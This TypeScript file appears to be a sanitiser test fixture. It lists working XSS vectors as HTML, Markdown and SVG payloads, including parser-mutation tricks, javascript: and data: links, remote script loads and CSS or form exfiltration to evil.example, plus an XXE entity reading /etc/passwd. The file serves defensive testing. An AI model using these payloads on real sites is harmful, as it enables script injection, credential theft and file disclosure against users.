/** What a vector does when it runs: marks its own window and every one above it that it can reach. */
const RUN = 'try{top.__pwned=1}catch(e){};try{parent.__pwned=1}catch(e){};window.__pwned=1';
const run = encodeURIComponent(RUN);
const entities = [...'javascript:'].map(letter => `&#${letter.charCodeAt(0)};`).join('');
const base64 = (html: string): string => btoa(html);
const page = `<script>${RUN}</script>`;

/** Elements whose handlers run by themselves, by loading or by failing to load. */
const handlers = [
  'img src=x onerror',
  'img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload',
  'image src=x onerror',
  'svg onload',
  'body onload',
  'body onpageshow',
  'body onhashchange',
  'body onscroll',
  'body onresize',
  'iframe onload',
  'iframe srcdoc="" onload',
  'object data=x onerror',
  'embed src=x onerror',
  'video src=x onerror',
  'video autoplay onloadstart src=x',
  'audio src=x onerror',
  'input autofocus onfocus',
  'textarea autofocus onfocus',
  'select autofocus onfocus',
  'button autofocus onfocus',
  'div tabindex=0 autofocus onfocus',
  'a href=# autofocus onfocus',
  'summary autofocus onfocus tabindex=0',
  'details open ontoggle',
  'details onbeforetoggle open',
  'marquee onstart',
  'link rel=stylesheet href=x onerror',
  'link rel=stylesheet href=data:, onload',
  'script src=x onerror',
  'style onload',
  'track onerror src=x',
  'p style="animation-name:x" onanimationstart',
  'p style="animation:x 1s" onanimationend',
  'p style="transition:opacity 1s" ontransitionend',
  'div onpointerover',
  'div onmouseover',
  'div onclick',
  'div onauxclick',
  'div oncontextmenu',
  'div onwheel',
  'div onbeforeinput contenteditable',
  'div onbeforecopy',
  'form oninput',
  'form onsubmit',
  'dialog open onclose',
  'div popover onbeforetoggle',
  'frameset onload',
  'isindex type=image src=1 onerror',
  'custom-element onready onfocus tabindex=1 autofocus',
].map(start => `<${start}="${RUN}">x`);

/** Elements that hold or load a script. */
const scripts = [
  page,
  `<script type="module">${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script src="/assets/pwn.js"></script>`,
  `<script src="//evil.example/x.js"></script>`,
  `<script nonce="">${RUN}</script>`,
  `<script nonce="galley">${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${run}" /></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<template><script>${RUN}</script></template>`,
  `<div><template shadowrootmode="open"><script>${RUN}</script><img src=x onerror="${RUN}"></template></div>`,
  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>"></noscript>`,
  `<iframe srcdoc="${page.replaceAll('"', '&quot;')}"></iframe>`,
  `<iframe srcdoc="${page.replaceAll('<', '&lt;')}" sandbox="allow-scripts allow-same-origin"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe src="data:text/html;base64,${base64(page)}"></iframe>`,
  `<iframe src="/?galley-preview"></iframe>`,
  `<iframe src="galley://app/"></iframe>`,
  `<iframe src="file:///etc/passwd"></iframe>`,
  `<object data="data:text/html;base64,${base64(page)}"></object>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object type="text/x-scriptlet" data="/assets/pwn.html"></object>`,
  `<embed src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg">${page}</svg>`)}">`,
  `<embed src="javascript:${RUN}">`,
  `<frameset><frame src="javascript:${RUN}"></frameset>`,
  `<portal src="javascript:${RUN}"></portal>`,
  `<fencedframe src="javascript:${RUN}"></fencedframe>`,
  `<webview src="data:text/html,${encodeURIComponent(page)}" nodeintegration allowpopups></webview>`,
  `<link rel="import" href="/assets/pwn.html">`,
  `<link rel="modulepreload" href="/assets/pwn.js">`,
  `<link rel="manifest" href="data:application/json,{}">`,
  `<script type="speculationrules">{"prerender":[{"source":"list","urls":["/"]}]}</script>`,
  `<script type="importmap">{"imports":{"x":"data:text/javascript,${run}"}}</script>`,
];

/** Links, forms and everything else that waits for a click or leads elsewhere. */
const addresses = [
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="JaVaScRiPt:${RUN}">x</a>`,
  `<a href=" javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="java&#10;script:${RUN}">x</a>`,
  `<a href="&#1;javascript:${RUN}">x</a>`,
  `<a href="${entities}${RUN}">x</a>`,
  `<a href="javascript&colon;${RUN}">x</a>`,
  `<a href="vbscript:${RUN}">x</a>`,
  `<a href="data:text/html,${encodeURIComponent(page)}">x</a>`,
  `<a href="blob:null/x" target=_blank>x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a href="galley://app/" target=_top>x</a>`,
  `<a href="smb://evil.example/x">x</a>`,
  `<a href="ms-msdt:/id%20x">x</a>`,
  `<a href=x ping="https://evil.example/ping" download>x</a>`,
  `<area href="javascript:${RUN}" shape=default>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text y=9>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to="${RUN}" /></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s />`,
  `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${RUN}"/></svg>`)}#x"></use></svg>`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<math><mtext href="javascript:${RUN}">x</mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<form id=f></form><button form=f formaction="javascript:${RUN}">x</button>`,
  `<form action="https://evil.example/"><input type=submit name=a value=b></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,${encodeURIComponent(page)}">`,
  `<META HTTP-EQUIV=" refresh" CONTENT="0; URL=https://evil.example/">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`,
  `<base href="https://evil.example/"><img src="x.png">`,
  `<base target="_top"><a href="https://evil.example/">x</a>`,
  `<img src="javascript:${RUN}">`,
  `<table background="javascript:${RUN}"></table>`,
  `<p style="background:url(javascript:${RUN})">x</p>`,
  `<p style="behavior:url(x.htc);width:expression(${RUN})">x</p>`,
  `<style>@import url("https://evil.example/x.css"); p{background:url(https://evil.example/y)}</style>`,
  `<style>input[value^="a"]{background:url(https://evil.example/a)}</style><input value=abc>`,
];

/** What only becomes markup when a parser reads it a second time, or when Markdown makes it. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror='${RUN}'>">`,
  `<noembed><img title="</noembed><img src=x onerror='${RUN}'>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror='${RUN}'>"></xmp>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${RUN}">`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<!--!> <img src=x onerror="${RUN}"> -->`,
  `<![CDATA[<img src=x onerror="${RUN}">]]>`,
  `<?xml version="1.0"?><?x <img src=x onerror="${RUN}"> ?>`,
  `<a title="\`"><img src=x onerror="${RUN}">\`</a>`,
  `<div id="x" name="getElementById"></div><form name="querySelector"><input name="querySelectorAll"></form>`,
  `<img name="body"><img name="head"><form name="documentElement"><input name="children"></form>`,
  `<img name="getElementById"><img name="replaceChild"><img name="adoptNode"><img name="images"><img name="baseURI">`,
  `<input form=loop name=nextSibling><form id=loop><input name=firstChild><input name=attributes><input name=parentNode></form>`,
  `<p 6"="" #"="">x</p><img src=x onerror="${RUN}" alert(1)">`,
  `[x](javascript:${encodeURI(RUN)})`,
  `[x](<javascript:${RUN}>)`,
  `<javascript:${RUN.replaceAll(/[{}\s]/g, '')}>`,
  `[x]: javascript:${encodeURI(RUN)}\n\n[x]`,
  `![x" onerror="${RUN}](x.png)`,
  `![x](x.png "a\\" onerror=\\"${RUN}")`,
  `![<img src=x onerror="${RUN}">](x.png)`,
  `[x](x){: onmouseover="${RUN}" onclick="${RUN}"}`,
  `text\n{: onclick="${RUN}" style="width:100%;height:100%" tabindex="0" autofocus="1" onfocus="${RUN}"}`,
  `\`\`\`"><img src=x onerror="${RUN}">\nx\n\`\`\``,
  `\`\`\`html\n</code></pre><img src=x onerror="${RUN}">\n\`\`\``,
  `# </h1><img src=x onerror="${RUN}">\n{: #"><img src=x onerror=alert(1)>}`,
  `x[^1]\n\n[^1]: <img src=x onerror="${RUN}">`,
  `*[HTML]: "><img src=x onerror=${RUN}>\n\nHTML`,
  `$$ </script><img src=x onerror="${RUN}"> $$`,
  `| a | <img src=x onerror="${RUN}"> |\n|---|---|\n| <svg onload="${RUN}"> | b |`,
  `{::nomarkdown}<img src=x onerror="${RUN}">{:/nomarkdown}`,
];

/** Ways that are known to make a page run what its writer, or a reader's comment, put into it: HTML and Markdown. */
export const vectors: readonly string[] = [...handlers, ...scripts, ...addresses, ...mutations];

/** Words for titles, names and labels: markup that would run wherever a label is taken for HTML. */
export const hostileLabel = `"><img src=x onerror=window.__pwned=1><svg/onload=window.__pwned=1>`;

/** A drawing that tries everything that a drawing may. */
export const hostileSvg = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="40" onload="${RUN}">
<script>${RUN}</script><script href="https://evil.example/x.js"/><image href="https://evil.example/x.png" onerror="${RUN}"/>
<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"><iframe src="javascript:${RUN}"/></body></foreignObject>
<text y="20">&x;</text><rect width="80" height="40" fill="teal" onclick="${RUN}"/></svg>`;

/** A script file of the site itself. */
export const hostileScript = RUN;
